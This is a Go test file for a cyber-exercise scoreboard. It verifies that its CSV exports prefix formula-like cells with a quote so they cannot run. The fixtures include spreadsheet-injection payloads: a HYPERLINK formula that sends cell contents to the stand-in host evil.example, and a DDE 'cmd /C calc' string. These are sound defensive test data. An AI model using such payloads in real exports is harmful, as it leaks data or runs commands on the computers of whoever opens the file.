package scoreboard

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cordillera-range/cordillera/scenarios"
)

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","clic")`, `'=HYPERLINK("http://evil.example","clic")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-Inf", "'-Inf"},
		{"-0x1p3", "'-0x1p3"},
		{"- a dash", "'- a dash"},
		// Numbers stay numbers.
		{"-100", "-100"}, {"+25", "+25"}, {"-1.5", "-1.5"}, {"-.5", "-.5"}, {"-2e3", "-2e3"}, {"0", "0"}, {"99.5", "99.5"},
		// Text that a spreadsheet reads as text is left alone.
		{"", ""}, {"helped the other team", "helped the other team"}, {"a=b", "a=b"}, {"2026-12-02T05:00:00.000Z", "2026-12-02T05:00:00.000Z"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// formulaLike is what a spreadsheet runs as a formula: a cell that starts
// with = + - @, a tab or a carriage return and is not a plain number.
func formulaLike(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^[+-]?[0-9.]+$`).MatchString(cell)
}

// TestCSVExportsWriteNoFormula records staff and team text that starts like
// a formula and reads every CSV export back: no text cell may start with
// = + - @, a tab or a carriage return, and negative points stay numbers.
func TestCSVExportsWriteNoFormula(t *testing.T) {
	ctx := context.Background()
	s := openStore(t, filepath.Join(t.TempDir(), "cordillera.db"))
	evil := `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	err := s.CreateExercise(ctx, Exercise{Name: "ex", Title: "@SUM(1+1)", Scenario: "+scenario", Scoring: scenarios.DefaultScoring(), CreatedAt: t0},
		[]Team{{ID: "cl1", Name: "-2+3 CSIRT", Country: "CL"}, {ID: "co1", Name: "colCERT", Country: "CO"}})
	if err != nil {
		t.Fatal(err)
	}
	m := Moment{At: t0.Add(time.Minute), Elapsed: time.Minute}
	if _, err := s.Adjust(ctx, Adjustment{Exercise: "ex", Team: "cl1", Points: -100, Author: "=ines", Reason: evil, Moment: m}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Adjust(ctx, Adjustment{Exercise: "ex", Team: "co1", Points: 25, Author: "ines", Reason: "\t=1+1", Moment: m}); err != nil {
		t.Fatal(err)
	}
	exports := map[string]func(*bytes.Buffer) error{
		"standings":  func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "standings", "csv", b) },
		"ledger":     func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "ledger", "csv", b) },
		"statistics": func(b *bytes.Buffer) error { return Export(ctx, s, "ex", "statistics", "csv", b) },
		"trends":     func(b *bytes.Buffer) error { return Export(ctx, s, "", "trends", "csv", b) },
		"comparison": func(b *bytes.Buffer) error {
			cs, err := s.Compare(ctx)
			if err != nil {
				return err
			}
			return WriteComparisonCSV(b, cs)
		},
	}
	for name, write := range exports {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := write(&buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if formulaLike(cell) {
						t.Errorf("cell %q would be a formula (row %q)", cell, row)
					}
				}
			}
		})
	}
	var buf bytes.Buffer
	if err := Export(ctx, s, "ex", "ledger", "csv", &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var found bool
	for _, row := range rows[1:] {
		if row[col["team"]] != "cl1" {
			continue
		}
		found = true
		if got := row[col["reason"]]; got != "'"+evil {
			t.Errorf("reason = %q, want %q", got, "'"+evil)
		}
		if got := row[col["author"]]; got != "'=ines" {
			t.Errorf("author = %q, want '=ines", got)
		}
		if got := row[col["points"]]; got != "-100" {
			t.Errorf("points = %q, want -100: numbers stay numbers", got)
		}
	}
	if !found {
		t.Fatalf("no ledger row of cl1 in:\n%q", rows)
	}
}
